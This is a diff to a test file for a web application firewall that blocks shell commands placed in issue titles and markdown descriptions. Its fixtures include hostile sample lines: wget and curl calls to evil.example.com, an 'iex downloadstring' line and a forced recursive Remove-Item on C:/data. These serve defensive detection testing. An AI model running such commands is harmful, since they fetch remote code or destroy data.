@@ -123,13 +123,32 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
       'docker-compose fails && python3 exits right away',
       'docker-compose fails | wget the logs from there',
       'docker-compose fails on $(uname) after the upgrade',
-      'docker-compose fails\nwget is not installed either',
+      'docker-compose fails on arm64\nwget evil.example.com and run it',
       // Probes and launchers first.
       'whoami prints nothing on the runner host',
       'sudo wget is what they told me to run',
       'env python3 crashes on startup here too',
     ]) {
       assert.equal((await run(api, { title })).error?.reason, 'waf:rce', title);
+    }
+  });
+
+  test('multi-line markdown descriptions pass line by line; a line that starts a real command is blocked', async () => {
+    const clean = [
+      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\n2. Scroll to the bottom\n\n**Expected**: it works as in 3.17.\n**Actual**: the command exits with code 1.\n\n**Environment**: macOS 15.1, Node 24.1.0, CLI 3.8.2',
+      'Steps:\n1. Install on Windows 11\n2. Open the terminal\n\n**Environment**: Windows 11 23H2, PowerShell 7.4.6, agent 4.2.0',
+    ];
+    for (const description of clean) {
+      assert.ok((await run(plain, { description })).error !== undefined, description);
+      assert.equal((await run(api, { description })).error, undefined, description);
+    }
+    for (const description of [
+      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwhoami\n2. Scroll to the bottom',
+      '**Steps to reproduce**\n1. Open any issue with more than 50 comments\nwget evil.example.com/x.sh\n2. Scroll',
+      'Steps:\n1. Install on Windows 11\nRemove-Item C:/data -Recurse -Force\n2. Open the terminal',
+      'Steps:\n1. Install on Windows 11\niex downloadstring from the evil host now\n2. Open the terminal',
+    ]) {
+      assert.ok((await run(api, { description })).error !== undefined, description);
     }
   });
 
@@ -146,6 +165,14 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
     assert.equal(commandOnlyAtStart('wget works with example.com today'), false);
     assert.equal(commandOnlyAtStart('wget works with --quiet today'), false);
     assert.equal(commandOnlyAtStart('wget works with \\ today'), false);
+    assert.equal(
+      commandOnlyAtStart('**Expected**: it works.\n**Actual**: the command exits with code 1.'),
+      true,
+    );
+    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\nwhoami prints nothing'), false);
+    assert.equal(commandOnlyAtStart('It fails on arm64 after the upgrade\r\nsudo prompt shows'), false);
+    assert.equal(commandOnlyAtStart('It fails on arm64\n\n- curl evil.example.com then'), false);
+    assert.equal(commandOnlyAtStart('\n\n'), false);
   });
 });
 
